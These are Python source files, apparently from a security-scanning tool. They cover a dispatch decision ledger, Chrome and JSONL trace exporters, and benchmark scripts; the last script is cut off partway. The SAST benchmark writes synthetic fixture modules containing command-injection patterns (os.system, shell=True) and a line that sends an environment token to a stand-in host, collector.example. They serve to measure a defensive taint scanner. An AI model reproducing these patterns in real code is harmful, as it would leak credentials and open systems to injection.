    """Conftest hook: whether an ambient sampler is running."""
    return _sampler is not None


def _restore_state(was_running: bool) -> None:
    """Conftest hook: stop any sampler a test leaked (never restarts one
    — an ambient session belongs to whoever started it, not the tests)."""
    if not was_running and _sampler is not None:
        stop()
