"""Dispatch decision ledger — bounded ring of cost-ladder decisions.

The self-calibrating cost ladder (engine/graph_kernels.py,
engine/bitpack_bfs.py, engine/match.py, engine/similarity.py,
engine/score.py) decides every kernel dispatch by comparing per-rung
predicted costs; until this module existed those decisions were opaque —
BENCH_r07 showed ``similarity:device_declined`` with no record of the
predicted costs that drove the decline. Each dispatch now records ONE
:class:`Decision` here via ``telemetry.record_decision(...)``: the kernel
family, the chosen rung, the input geometry, every per-rung predicted
cost the ladder computed, the measured wall for the chosen rung, the
per-rung decline reasons (from telemetry.DECLINE_REASONS — the enum is
asserted, never free text), and any shadow-pricing outcome.

Design mirrors obs/trace.py's ring discipline:

- **Bounded memory.** Decisions land in one process-global ring
  (``AGENT_BOM_DISPATCH_LEDGER_RING``, default 2048); the oldest fall
  off, and the eviction is counted (``ledger:ring_dropped`` dispatch
  counter + the ``evicted`` field) so a summary can say "N decisions
  missing" instead of silently lying.
- **Cheap.** Decisions are per-*dispatch*, not per-span: a 10k-agent
  bench round records tens of decisions, so one lock + one dataclass
  append is well under the 2% reach-stage overhead bar the tracer holds
  (microbench-gated in tests/test_dispatch_obs.py).
- **Hermetic.** ``_snapshot_state``/``_restore_state`` are registered in
  tests/conftest.py alongside the other obs rings.

Shadow sampling also lives here (:func:`should_shadow`): a deterministic
per-family counter fires on the FIRST decline when
``AGENT_BOM_DISPATCH_SHADOW_RATE`` > 0 and then on every 1/rate-th
decline — deterministic (no RNG) so tests can assert exact firing
patterns, first-fire so a bench round at a low rate still re-prices every
declined family at least once.
"""

from __future__ import annotations

import threading
from collections import Counter, deque
from dataclasses import dataclass, field
from typing import Any

from agent_bom_trn import config

_lock = threading.Lock()
_ring: deque["Decision"] = deque(maxlen=max(config.DISPATCH_LEDGER_RING, 1))
_recorded: int = 0  # lifetime count (survives eviction)
_evicted: int = 0
_shadow_counts: Counter[str] = Counter()  # per-family decline sampler state
_record_dispatch = None  # lazy-bound telemetry.record_dispatch (import cycle)


@dataclass
class Decision:
    """One cost-ladder dispatch decision (see telemetry.record_decision)."""

    family: str  # kernel family: bfs / maxplus / match / similarity / score
    chosen: str  # the rung that served the dispatch (bitpack, numpy, ...)
    reason: str | None = None  # why no device rung served it (None if one did)
    declines: dict[str, str] = field(default_factory=dict)  # rung -> reason
    geometry: dict[str, Any] = field(default_factory=dict)  # n/nnz/rows/elems
    predicted_s: dict[str, float] = field(default_factory=dict)  # rung -> cost
    wall_s: float = 0.0  # measured wall for the chosen rung
    shadow: dict[str, Any] | None = None  # shadow-pricing outcome, if sampled
    seq: int = 0

    def to_dict(self) -> dict[str, Any]:
        d: dict[str, Any] = {
            "family": self.family,
            "chosen": self.chosen,
            "wall_s": round(self.wall_s, 6),
            "seq": self.seq,
        }
        if self.reason:
            d["reason"] = self.reason
        if self.declines:
            d["declines"] = dict(self.declines)
        if self.geometry:
            d["geometry"] = dict(self.geometry)
        if self.predicted_s:
            d["predicted_s"] = {k: round(v, 9) for k, v in self.predicted_s.items()}
        if self.shadow:
            d["shadow"] = dict(self.shadow)
        return d


def record(decision: Decision) -> None:
    """Append one decision (called via telemetry.record_decision ONLY —
    that wrapper owns the reason-enum assertion and the dispatch counter)."""
    global _recorded, _evicted
    with _lock:
        _recorded += 1
        decision.seq = _recorded
        dropped = _ring.maxlen is not None and len(_ring) == _ring.maxlen
        if dropped:
            _evicted += 1
        _ring.append(decision)
    if dropped:
        _bump("ledger", "ring_dropped")


def _bump(kernel: str, path: str) -> None:
    global _record_dispatch
    if _record_dispatch is None:
        from agent_bom_trn.engine.telemetry import record_dispatch  # noqa: PLC0415

        _record_dispatch = record_dispatch
    _record_dispatch(kernel, path)


def decisions() -> list[Decision]:
    """Snapshot of the ledger ring, oldest first."""
    with _lock:
        return list(_ring)


def counters() -> dict[str, int]:
    with _lock:
        return {"recorded": _recorded, "evicted": _evicted, "size": len(_ring)}


def should_shadow(family: str, predicted_cost_s: float | None = None) -> bool:
    """Deterministic decline sampler for shadow pricing.

    Counts declines per family; with ``AGENT_BOM_DISPATCH_SHADOW_RATE``
    r > 0 it fires on the family's first decline (so one bench round
    always re-prices each declined family) and then whenever
    ``floor(n·r)`` crosses an integer — i.e. every 1/r-th decline.

    ``predicted_cost_s`` is the declined rung's own predicted wall: when
    it exceeds ``AGENT_BOM_DISPATCH_SHADOW_MAX_S`` the sample is refused
    WITHOUT consuming the family's shadow slot (the skip is counted as
    ``ledger:shadow_skipped_cost``). An audit that costs orders of
    magnitude more than the dispatch it audits would stall the pipeline
    it observes — a decline priced past the ceiling stays unaudited
    until its prediction (or the ceiling) says otherwise.
    """
    rate = float(config.DISPATCH_SHADOW_RATE)
    if rate <= 0.0:
        return False
    if (
        predicted_cost_s is not None
        and predicted_cost_s > float(config.DISPATCH_SHADOW_MAX_S)
    ):
        _bump("ledger", "shadow_skipped_cost")
        return False
    with _lock:
        n = _shadow_counts[family] + 1
        _shadow_counts[family] = n
    if n == 1:
        return True
    return int(n * rate) > int((n - 1) * rate)


def summary() -> dict[str, Any]:
    """Ledger roll-up for the API endpoint and the bench ``dispatch`` block:
    per-family decision/rung/decline-reason counts plus ring accounting."""
    with _lock:
        snap = list(_ring)
        recorded, evicted = _recorded, _evicted
        capacity = _ring.maxlen or 0
    families: dict[str, dict[str, Any]] = {}
    shadow_runs = shadow_ok = shadow_mismatch = 0
    for d in snap:
        fam = families.setdefault(
            d.family,
            {"decisions": 0, "chosen": Counter(), "decline_reasons": Counter(), "wall_s": 0.0},
        )
        fam["decisions"] += 1
        fam["chosen"][d.chosen] += 1
        if d.reason:
            fam["decline_reasons"][d.reason] += 1
        for reason in d.declines.values():
            fam["decline_reasons"][reason] += 1
        fam["wall_s"] += d.wall_s
        if d.shadow:
            shadow_runs += 1
            if d.shadow.get("ok") is True:
                shadow_ok += 1
            elif d.shadow.get("ok") is False:
                shadow_mismatch += 1
    return {
        "recorded": recorded,
        "evicted": evicted,
        "size": len(snap),
        "capacity": capacity,
        "families": {
            name: {
                "decisions": fam["decisions"],
                "chosen": dict(fam["chosen"]),
                "decline_reasons": dict(fam["decline_reasons"]),
                "wall_s": round(fam["wall_s"], 4),
            }
            for name, fam in sorted(families.items())
        },
        "shadow": {"runs": shadow_runs, "ok": shadow_ok, "mismatch": shadow_mismatch},
    }


def reset() -> None:
    """Clear the ring, lifetime counters, and shadow sampler state."""
    global _recorded, _evicted
    with _lock:
        _ring.clear()
        _recorded = 0
        _evicted = 0
        _shadow_counts.clear()


def resize(capacity: int) -> None:
    """Rebind the ring to a new capacity (keeps the newest decisions)."""
    global _ring
    with _lock:
        _ring = deque(_ring, maxlen=max(int(capacity), 1))


def _snapshot_state() -> tuple:
    """Conftest hook: capture (ring, maxlen, recorded, evicted, sampler)."""
    with _lock:
        return (list(_ring), _ring.maxlen, _recorded, _evicted, dict(_shadow_counts))


def _restore_state(state: tuple) -> None:
    """Conftest hook: restore a :func:`_snapshot_state` capture."""
    global _ring, _recorded, _evicted
    ring, maxlen, recorded, evicted, shadow_counts = state
    with _lock:
        _ring = deque(ring, maxlen=maxlen)
        _recorded = recorded
        _evicted = evicted
        _shadow_counts.clear()
        _shadow_counts.update(shadow_counts)
