"""Trace exporters: Chrome trace-event JSON (Perfetto-loadable) + JSONL.

The Chrome format is the lowest-common-denominator flame-graph artifact:
``chrome://tracing``, Perfetto UI, and speedscope all load it. Each span
becomes one complete-duration (``"ph": "X"``) event; parentage is
implicit in the timestamp nesting per thread lane, and the explicit
trace/span/parent ids ride along in ``args`` for tooling that wants the
tree without timestamp inference.

Timestamps are microseconds in the ``perf_counter`` domain — a shared
monotonic base per process, which is exactly what the viewers need
(they normalize to the earliest event).
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any, Iterable

from agent_bom_trn.obs.trace import Span, completed_spans, pid


def chrome_trace_events(spans: Iterable[Span] | None = None) -> dict[str, Any]:
    """Spans → Chrome trace-event document ({"traceEvents": [...]})."""
    if spans is None:
        spans = completed_spans()
    process_id = pid()
    events = []
    for s in spans:
        args: dict[str, Any] = {
            "trace_id": s.trace_id,
            "span_id": s.span_id,
            "parent_id": s.parent_id,
            "status": s.status,
        }
        if s.error:
            args["error"] = s.error
        args.update(s.attrs)
        events.append(
            {
                "name": s.name,
                "cat": s.name.split(":", 1)[0],
                "ph": "X",
                "ts": round(s.start_s * 1e6, 3),
                "dur": round(s.duration_s * 1e6, 3),
                "pid": process_id,
                "tid": s.tid,
                "args": args,
            }
        )
    return {"traceEvents": events, "displayTimeUnit": "ms"}


def write_chrome_trace(path: str | Path, spans: Iterable[Span] | None = None) -> int:
    """Write the Chrome trace JSON; returns the event count."""
    doc = chrome_trace_events(spans)
    Path(path).write_text(json.dumps(doc), encoding="utf-8")
    return len(doc["traceEvents"])


def write_jsonl(path: str | Path, spans: Iterable[Span] | None = None) -> int:
    """One span dict per line — the grep/jq-friendly twin of the Chrome
    document; returns the span count."""
    if spans is None:
        spans = completed_spans()
    n = 0
    with Path(path).open("w", encoding="utf-8") as fh:
        for s in spans:
            fh.write(json.dumps(s.to_dict()) + "\n")
            n += 1
    return n


def spans_summary(spans: Iterable[Span] | None = None) -> dict[str, dict[str, float | int]]:
    """Per-span-name {count, total_s, max_s} rollup (bench JSON field)."""
    if spans is None:
        spans = completed_spans()
    out: dict[str, dict[str, float | int]] = {}
    for s in spans:
        entry = out.setdefault(s.name, {"count": 0, "total_s": 0.0, "max_s": 0.0})
        entry["count"] += 1
        entry["total_s"] += s.duration_s
        if s.duration_s > entry["max_s"]:
            entry["max_s"] = s.duration_s
    for entry in out.values():
        entry["total_s"] = round(entry["total_s"], 6)
        entry["max_s"] = round(entry["max_s"], 6)
    return dict(sorted(out.items()))
