"""Trace exporters: Chrome trace-event JSON (Perfetto-loadable) + JSONL.

The Chrome format is the lowest-common-denominator flame-graph artifact:
``chrome://tracing``, Perfetto UI, and speedscope all load it. Each span
becomes one complete-duration (``"ph": "X"``) event; parentage is
implicit in the timestamp nesting per thread lane, and the explicit
trace/span/parent ids ride along in ``args`` for tooling that wants the
tree without timestamp inference.

Timestamps are microseconds in the ``perf_counter`` domain — a shared
monotonic base per process, which is exactly what the viewers need
(they normalize to the earliest event).
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any, Iterable

from agent_bom_trn.obs.trace import Span, completed_spans, pid


def chrome_trace_events(spans: Iterable[Span] | None = None) -> dict[str, Any]:
    """Spans → Chrome trace-event document ({"traceEvents": [...]})."""
    if spans is None:
        spans = completed_spans()
    events = []
    for s in spans:
        args: dict[str, Any] = {
            "trace_id": s.trace_id,
            "span_id": s.span_id,
            "parent_id": s.parent_id,
            "status": s.status,
        }
        if s.error:
            args["error"] = s.error
        args.update(s.attrs)
        events.append(
            {
                "name": s.name,
                "cat": s.name.split(":", 1)[0],
                "ph": "X",
                "ts": round(s.start_s * 1e6, 3),
                "dur": round(s.duration_s * 1e6, 3),
                "pid": getattr(s, "pid", None) or pid(),
                "tid": s.tid,
                "args": args,
            }
        )
    return {"traceEvents": events, "displayTimeUnit": "ms"}


def write_chrome_trace(path: str | Path, spans: Iterable[Span] | None = None) -> int:
    """Write the Chrome trace JSON; returns the event count."""
    doc = chrome_trace_events(spans)
    Path(path).write_text(json.dumps(doc), encoding="utf-8")
    return len(doc["traceEvents"])


def write_jsonl(path: str | Path, spans: Iterable[Span] | None = None) -> int:
    """One span dict per line — the grep/jq-friendly twin of the Chrome
    document; returns the span count."""
    if spans is None:
        spans = completed_spans()
    n = 0
    with Path(path).open("w", encoding="utf-8") as fh:
        for s in spans:
            fh.write(json.dumps(s.to_dict()) + "\n")
            n += 1
    return n


def read_jsonl(path: str | Path) -> list[dict[str, Any]]:
    """Load one JSONL span export back into dicts (blank lines skipped)."""
    out: list[dict[str, Any]] = []
    for line in Path(path).read_text(encoding="utf-8").splitlines():
        line = line.strip()
        if line:
            out.append(json.loads(line))
    return out


def merge_jsonl(paths: Iterable[str | Path]) -> list[dict[str, Any]]:
    """Merge per-process JSONL exports into one span list.

    Cross-process stitching is by ``trace_id`` — ids embed the minting
    pid, so spans from different replicas never collide. Timestamps stay
    in each process's own perf_counter domain; ordering inside the merge
    is (trace_id, pid, start_s), which groups each trace's per-process
    segments contiguously without pretending the clocks are comparable.
    """
    spans: list[dict[str, Any]] = []
    for path in paths:
        spans.extend(read_jsonl(path))
    spans.sort(key=lambda s: (s.get("trace_id", ""), s.get("pid", 0), s.get("start_s", 0.0)))
    return spans


def stitch_traces(spans: Iterable[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    """Group merged span dicts into per-trace summaries.

    Returns {trace_id: {span_count, pids, names, spans}} — the shape the
    cross-process acceptance test asserts on: one REST-submitted scan
    must yield ONE trace id whose pid set spans every process that
    touched it (API replica, queue worker, gateway)."""
    traces: dict[str, dict[str, Any]] = {}
    for s in spans:
        entry = traces.setdefault(
            s.get("trace_id", "?"),
            {"span_count": 0, "pids": set(), "names": set(), "spans": []},
        )
        entry["span_count"] += 1
        entry["pids"].add(s.get("pid"))
        entry["names"].add(s.get("name"))
        entry["spans"].append(s)
    return traces


def spans_summary(spans: Iterable[Span] | None = None) -> dict[str, dict[str, float | int]]:
    """Per-span-name {count, total_s, max_s} rollup (bench JSON field)."""
    if spans is None:
        spans = completed_spans()
    out: dict[str, dict[str, float | int]] = {}
    for s in spans:
        entry = out.setdefault(s.name, {"count": 0, "total_s": 0.0, "max_s": 0.0})
        entry["count"] += 1
        entry["total_s"] += s.duration_s
        if s.duration_s > entry["max_s"]:
            entry["max_s"] = s.duration_s
    for entry in out.values():
        entry["total_s"] = round(entry["total_s"], 6)
        entry["max_s"] = round(entry["max_s"], 6)
    return dict(sorted(out.items()))
