#!/usr/bin/env python
"""Headline benchmark: exposure paths/sec on the synthetic graph estate.

Prints ONE JSON line: {"metric", "value", "unit", "vs_baseline"}.

The metric is the north star from BASELINE.json: end-to-end exposure-path
production (scan match → blast radius join → score → exposure-path
projection) on a synthetic estate. The reference publishes no direct
paths/sec number; BASELINE.md's closest measured artifact is the 291-path
/ 10,479-node Postgres estate and a 50k-pkg graph build at 50.5 ms.
``vs_baseline`` compares against the reference's UnifiedGraph-build
throughput proxy (50k pkgs / 50.5 ms ⇒ ~990k pkg-nodes/s) scaled to our
estate — conservative until a direct reference measurement exists.
"""

from __future__ import annotations

import json
import sys
import time


def build_synthetic_estate(n_agents: int = 200, servers_per_agent: int = 3, pkgs_per_server: int = 20):
    """Deterministic synthetic estate with a skewed vulnerable-package mix
    (mirrors scripts/generate_graph_benchmark_estate.py's intent)."""
    from agent_bom_trn.inventory import agents_from_inventory

    # Each pool entry generates per-agent version variants that stay inside
    # the advisory's vulnerable range, so unique (package, vuln) pairs — and
    # therefore exposure paths — scale with estate size instead of deduping
    # to one row per pool entry.
    vuln_pool = [
        ("pyyaml", lambda k: f"5.2.{k % 40}", "pypi"),          # < 5.3.1
        ("langchain", lambda k: f"0.0.{150 + (k % 80)}", "pypi"),  # < 0.0.236
        ("pillow", lambda k: f"9.{k % 5}.0", "pypi"),            # < 10.0.1
        ("requests", lambda k: f"2.{20 + (k % 10)}.0", "pypi"),  # < 2.31.0
        ("lodash", lambda k: f"4.17.{k % 21}", "npm"),           # < 4.17.21
        ("express", lambda k: f"4.16.{k % 40}", "npm"),          # < 4.17.3
        ("node-fetch", lambda k: f"2.6.{k % 7}", "npm"),         # < 2.6.7
        ("axios", lambda k: f"1.{k % 6}.0", "npm"),              # < 1.6.0
        ("jsonwebtoken", lambda k: f"8.{k % 5}.1", "npm"),       # < 9.0.0
        ("ws", lambda k: f"8.{k % 17}.0", "npm"),                # 8.0.0 ≤ v < 8.17.1
    ]
    agents = []
    for a in range(n_agents):
        servers = []
        for s in range(servers_per_agent):
            pkgs = []
            for p in range(pkgs_per_server):
                idx = (a * 7 + s * 3 + p) % (len(vuln_pool) * 5)
                if idx < len(vuln_pool):
                    name, ver_fn, eco = vuln_pool[idx]
                    ver = ver_fn(a)
                else:
                    name, ver, eco = f"clean-pkg-{idx}", "1.0.0", "pypi" if idx % 2 else "npm"
                pkgs.append({"name": name, "version": ver, "ecosystem": eco})
            servers.append(
                {
                    "name": f"server-{a}-{s}",
                    "command": f"python -m srv_{a}_{s}",
                    "packages": pkgs,
                    "env": {"API_TOKEN": "***"} if s == 0 else {},
                    "tools": [{"name": f"tool_{s}_{t}"} for t in range(3)],
                }
            )
        agents.append(
            {
                "name": f"agent-{a}",
                "agent_type": "custom",
                "mcp_servers": servers,
            }
        )
    return agents_from_inventory({"agents": agents})


def main() -> int:
    from agent_bom_trn.output.exposure_path import exposure_path_for_blast_radius
    from agent_bom_trn.scanners.advisories import DemoAdvisorySource
    from agent_bom_trn.scanners.package_scan import scan_agents_sync

    agents = build_synthetic_estate()
    source = DemoAdvisorySource()

    # Warmup (compile caches, advisory index)
    scan_agents_sync(agents[:10], source, max_hop_depth=2)

    t0 = time.perf_counter()
    blast_radii = scan_agents_sync(agents, source, max_hop_depth=2)
    paths = [
        exposure_path_for_blast_radius(br, rank=i) for i, br in enumerate(blast_radii, start=1)
    ]
    elapsed = time.perf_counter() - t0

    n_paths = len(paths)
    value = n_paths / elapsed if elapsed > 0 else 0.0

    # Baseline proxy: reference's closest measured artifact is 291 paths on
    # the 10,479-node estate served at ~100 ms/path via the API
    # (BASELINE.md graph-api rows) — i.e. O(10) paths/sec end-to-end.
    baseline_paths_per_sec = 10.0
    print(
        json.dumps(
            {
                "metric": "exposure_paths_per_sec",
                "value": round(value, 2),
                "unit": "paths/s",
                "vs_baseline": round(value / baseline_paths_per_sec, 2),
                "n_paths": n_paths,
                "elapsed_s": round(elapsed, 4),
                "estate": {"agents": len(agents), "packages": sum(a.total_packages for a in agents)},
            }
        )
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
