#!/usr/bin/env python
"""Headline benchmark: both north-star metrics on the full-scale estate.

Prints ONE JSON line:
  {"metric", "value", "unit", "vs_baseline", ...}

North stars (BASELINE.json): **exposure paths/sec** and **packages
scanned/sec** on the graph benchmark estate. The estate is the shared
skewed generator (scripts/generate_estate.py) at the 10k-agent tier
(override: AGENT_BOM_BENCH_AGENTS); ``vs_baseline`` compares against the
REFERENCE implementation measured on this same machine over the same
estate shape (BASELINE_MEASURED.json, produced by
scripts/measure_reference_baseline.py) — not a proxy.

The run also records which engine backend actually served each kernel
(engine.telemetry dispatch counts) so the device claim is auditable.
"""

from __future__ import annotations

import json
import os
import sys
import time
from pathlib import Path

REPO = Path(__file__).resolve().parent
sys.path.insert(0, str(REPO))
sys.path.insert(0, str(REPO / "scripts"))


def inject_crown_jewels(graph, plan) -> None:
    """Attach the deterministic synthetic data-store layer (see
    generate_estate.crown_jewel_plan) through the product graph API."""
    from agent_bom_trn.graph.container import UnifiedEdge, UnifiedNode
    from agent_bom_trn.graph.types import EntityType, RelationshipType

    # Server node ids embed canonical ids; resolve writers by label.
    by_label = {
        n.label: n.id
        for n in graph.nodes.values()
        if n.entity_type == EntityType.SERVER
    }
    for hub, target in plan["gateway_edges"]:
        hid, tid = by_label.get(hub), by_label.get(target)
        if hid is not None and tid is not None:
            graph.add_edge(
                UnifiedEdge(source=hid, target=tid, relationship=RelationshipType.CAN_ACCESS)
            )
    for jewel_id, writers in plan["jewels"]:
        graph.add_node(
            UnifiedNode(
                id=f"datastore:{jewel_id}",
                entity_type=EntityType.DATA_STORE,
                label=jewel_id,
                attributes={"data_sensitivity": "pii", "data_classification_tier": "restricted"},
            )
        )
        for server_name in writers:
            sid = by_label.get(server_name)
            if sid is not None:
                graph.add_edge(
                    UnifiedEdge(
                        source=sid,
                        target=f"datastore:{jewel_id}",
                        relationship=RelationshipType.STORES,
                    )
                )


def _run_pipeline(agents, source, n_agents):
    """One full measured pipeline pass; returns stage timings + artifacts.

    Each stage runs under a span of the same name (children of the
    caller's ``bench:pipeline`` root), so a traced run (--trace /
    AGENT_BOM_BENCH_TRACE) yields a flame graph whose root-span children
    cover the whole reported elapsed_s — not just a stage table.
    """
    from generate_estate import crown_jewel_plan

    from agent_bom_trn.engine.telemetry import (
        device_kernel_stats,
        dispatch_counts,
        gauges,
        reset_device_stats,
        reset_dispatch_counts,
        reset_gauges,
        reset_stage_timings,
        stage_timings,
    )
    from agent_bom_trn.graph.attack_path_fusion import apply_attack_path_fusion
    from agent_bom_trn.graph.builder import build_unified_graph_from_report_objects
    from agent_bom_trn.graph.dependency_reach import (
        apply_dependency_reachability_to_blast_radii,
    )
    from agent_bom_trn.obs import dispatch_ledger
    from agent_bom_trn.obs import mem as obs_mem
    from agent_bom_trn.obs.trace import span
    from agent_bom_trn.output.exposure_path import exposure_path_for_blast_radius
    from agent_bom_trn.report import build_report
    from agent_bom_trn.scanners.package_scan import scan_agents_sync

    reset_dispatch_counts()
    reset_stage_timings()
    reset_device_stats()
    reset_gauges()
    dispatch_ledger.reset()
    obs_mem.reset_stage_mem()

    # Each stage runs under a span AND a memory window: stage_mem
    # accumulates the stage's RSS delta (two /proc reads per stage — the
    # ceiling accounting ROADMAP item 1 needs) and, when
    # AGENT_BOM_MEM_TRACEMALLOC is set, the stage's top allocation sites.
    with span("scan"), obs_mem.stage_mem("scan"):
        t0 = time.perf_counter()
        blast_radii = scan_agents_sync(agents, source, max_hop_depth=2)
        t_scan = time.perf_counter() - t0

    with span("report"), obs_mem.stage_mem("report"):
        t0 = time.perf_counter()
        report = build_report(agents, blast_radii, scan_sources=["bench"])
        t_report = time.perf_counter() - t0

    # Zero-serialization handoff: the graph is built straight from the
    # in-memory report objects (graph_build:direct); the JSON path stays
    # available as the differential twin for exports.
    with span("graph_build"), obs_mem.stage_mem("graph_build"):
        t0 = time.perf_counter()
        graph = build_unified_graph_from_report_objects(report)
        inject_crown_jewels(graph, crown_jewel_plan(n_agents))
        t_graph = time.perf_counter() - t0

    with span("fusion"), obs_mem.stage_mem("fusion"):
        t0 = time.perf_counter()
        fusion = apply_attack_path_fusion(graph)
        t_fusion = time.perf_counter() - t0

    with span("reach"), obs_mem.stage_mem("reach"):
        t0 = time.perf_counter()
        apply_dependency_reachability_to_blast_radii(blast_radii, graph)
        t_reach = time.perf_counter() - t0

    with span("exposure_paths"), obs_mem.stage_mem("exposure_paths"):
        t0 = time.perf_counter()
        paths = [
            exposure_path_for_blast_radius(br, rank=i)
            for i, br in enumerate(blast_radii, start=1)
        ]
        t_paths = time.perf_counter() - t0

    stages = {
        "scan": t_scan,
        "report": t_report,
        "graph_build": t_graph,
        "fusion": t_fusion,
        "reach": t_reach,
        "exposure_paths": t_paths,
    }
    from agent_bom_trn.resilience import registry_snapshot

    counts = dispatch_counts()
    return {
        "stages": stages,
        "stage_mem_delta_mb": obs_mem.stage_mem_deltas(),
        "total": sum(stages.values()),
        "n_paths": len(paths),
        "graph_nodes": len(graph.nodes),
        "graph_edges": len(graph.edges),
        "fused_paths": fusion.get("fused_path_count"),
        # Fusion block (PR 16): uncapped k-best path emission + campaign
        # ranking throughput, with the maxplus dispatch mix (including the
        # bass rung's served/declined counters) broken out for the
        # regression gate and dispatch_audit.
        "fusion": {
            "fused_paths": fusion.get("fused_path_count"),
            "campaigns": fusion.get("campaign_count"),
            "ranked_paths_per_sec": round(
                fusion.get("fused_path_count", 0) / t_fusion, 2
            ) if t_fusion > 0 else None,
            "fusion_s": round(t_fusion, 3),
            "status": (fusion.get("status") or {}).get("status"),
            "reason_codes": (fusion.get("status") or {}).get("reason_codes"),
            "maxplus_dispatch": {
                k.partition(":")[2]: n for k, n in sorted(counts.items())
                if k.startswith("maxplus:")
            },
        },
        "dispatch": counts,
        "engine_stages": stage_timings(),
        "device_kernels": device_kernel_stats(),
        # Last-value gauges (bitpack lane occupancy, resident bytes):
        # current-state metrics the counter families can't express.
        "gauges": gauges(),
        # The resilience:* slice broken out so chaos runs diff cleanly
        # (retries, faults injected, degradations, breaker transitions),
        # plus where every endpoint breaker ended the run.
        "resilience": {
            k.partition(":")[2]: n for k, n in sorted(counts.items())
            if k.startswith("resilience:")
        },
        "breakers": registry_snapshot(),
        "degradation_count": len(report.degradation),
        # Decision-ledger capture for the dispatch observatory block:
        # the roll-up plus every decision's full evidence, so
        # scripts/dispatch_audit.py can replay the calibration audit
        # offline from the recorded round file.
        "ledger_summary": dispatch_ledger.summary(),
        "ledger_decisions": [d.to_dict() for d in dispatch_ledger.decisions()],
    }


def _host_calib() -> float:
    """Pinned CPU reference: best-of-5 wall seconds for a fixed numpy
    workload (dense matmul chain + scatter-add), seeded and identical
    across rounds by construction.

    Recorded as ``host_calib_s`` so the regression gate can separate
    host-speed drift from code regressions: bench rounds run on shared
    single-core VMs whose effective speed swings ±30% between (and
    within) days — r10's recording host measured the UNTOUCHED seed
    code's graph_build at 2.1–2.9s against r09's recorded 1.85s. Wall
    seconds from different rounds are only comparable after scaling by
    the calibration ratio.
    """
    import numpy as np  # noqa: PLC0415

    rng = np.random.default_rng(0)
    a = rng.standard_normal((512, 512)).astype(np.float32)
    idx = rng.integers(0, 65536, 1_000_000)
    best = float("inf")
    for _ in range(5):
        t0 = time.perf_counter()
        b = a
        for _ in range(8):
            b = b @ a
            b *= 1.0 / 512.0  # keep magnitudes finite across the chain
        acc = np.zeros(65536, dtype=np.float64)
        np.add.at(acc, idx, 1.0)
        float(b.sum() + acc.sum())
        best = min(best, time.perf_counter() - t0)
    return best


def _bench_sast(n_runs: int) -> dict:
    """Taint-engine throughput (files/s) on a synthetic source tree.

    Reported as its own result field — deliberately NOT a pipeline stage,
    so the north-star paths/s denominator is untouched. The corpus mixes
    intra-file taint flows, sanitized flows, clean code, AND cross-file
    call chains (every third module calls into its neighbor's runner),
    so the interprocedural engine's call-graph + summary cost is in the
    measured number; the ``sast:interproc_*`` dispatch-counter diff over
    the best run rides along for the regression gate.
    """
    import shutil
    import tempfile

    from agent_bom_trn.engine.telemetry import dispatch_counts
    from agent_bom_trn.sast import scan_tree

    n_files = int(os.environ.get("AGENT_BOM_BENCH_SAST_FILES", "150"))
    root = Path(tempfile.mkdtemp(prefix="bench_sast_"))
    try:
        # Deterministic mix: taint flows, sanitized flows, clean code.
        for i in range(n_files):
            body = [
                "import os, shlex, subprocess",
                "import urllib.request",
                f"from mod_{(i + 1) % n_files} import runner_{(i + 1) % n_files}",
                f"ALLOWED = {{'a{i}', 'b{i}'}}",
                f"def handler_{i}(cmd, arg):",
                f"    full = f'run {{cmd}} --n {i}'",
                "    os.system(full)" if i % 3 == 0 else "    subprocess.run(['git', arg])",
                "    safe = shlex.quote(cmd)",
                "    os.system('echo ' + safe)",
                "    if arg in ALLOWED:",
                "        os.system('git ' + arg)",
                # Cross-file hop: relay into the neighbor module's runner.
                f"    runner_{(i + 1) % n_files}(cmd)" if i % 3 == 0 else "    pass",
                f"def runner_{i}(payload):",
                "    subprocess.run(payload, shell=True)" if i % 2 == 0 else "    return payload",
                f"def helper_{i}(items):",
                "    acc = ''",
                "    for it in items:",
                "        acc += it",
                "    return acc",
            ]
            if i % 5 == 0:
                # Confidentiality polarity: env credential → network egress,
                # so the cred-flow label planes are part of the measured cost.
                body += [
                    f"def leak_{i}():",
                    f"    tok = os.environ['SERVICE_TOKEN_{i}']",
                    "    urllib.request.urlopen('https://collector.example', data=tok)",
                ]
            (root / f"mod_{i}.py").write_text("\n".join(body) + "\n")
        best = None
        files_scanned = 0
        interproc_counters: dict[str, int] = {}
        result: dict = {}
        for _ in range(n_runs):
            before = dict(dispatch_counts())
            t0 = time.perf_counter()
            result = scan_tree(root)
            elapsed = time.perf_counter() - t0
            files_scanned = result["files_scanned"]
            if best is None or elapsed < best:
                best = elapsed
                after = dispatch_counts()
                interproc_counters = {
                    k: after.get(k, 0) - before.get(k, 0)
                    for k in after
                    if k.startswith(("sast:interproc", "sast:credflow"))
                    and after.get(k, 0) > before.get(k, 0)
                }
        exfil_findings = sum(
            1
            for f in result.get("findings") or []
            if f.get("polarity") == "exfil"
        )
        credentials = {
            c for f in result.get("findings") or [] for c in f.get("credentials") or []
        }
        out = {
            "files": files_scanned,
            "files_per_sec": round(files_scanned / best, 1) if best else 0.0,
            "elapsed_s": round(best or 0.0, 3),
            "interproc_dispatch": interproc_counters,
            # Cred-flow block (PR 18): exact counts from the measured scan,
            # never host-scaled — the regression gate pins them.
            "credflow": {
                "exfil_findings": exfil_findings,
                "credentials": len(credentials),
            },
        }
        if result.get("interproc"):
            out["interproc"] = {
                "mode": result["interproc"].get("mode"),
                "functions": result["interproc"].get("functions"),
                "calls_resolved": result["interproc"].get("calls_resolved"),
                "calls_unresolved": result["interproc"].get("calls_unresolved"),
                "cross_findings": result["interproc"].get("cross_findings"),
            }
        return out
    finally:
        shutil.rmtree(root, ignore_errors=True)


def _bench_similarity(n_runs: int) -> dict:
    """Estate-scale embedding similarity: embed-cache win + affinity
    matmul throughput against the paraphrase-banked risk corpus.

    A side benchmark like ``_bench_sast`` — deliberately NOT a pipeline
    stage (the report stage already pays similarity inside the measured
    pipeline; this block isolates the engine numbers the regression gate
    checks): cold vs warm embed texts/s (the digest-keyed cache win),
    best-of-n_runs cosine-affinity GFLOP/s at a gateway-realistic Q
    against the full corpus P, the corpus geometry, the ``similarity:*``
    counter diff over the block, and the rung the ladder actually chose.
    """
    from agent_bom_trn import enforcement
    from agent_bom_trn.engine.similarity import cosine_affinity, embed_texts
    from agent_bom_trn.engine.telemetry import dispatch_counts
    from agent_bom_trn.obs import dispatch_ledger

    n_texts = int(os.environ.get("AGENT_BOM_BENCH_SIM_TEXTS", "4096"))
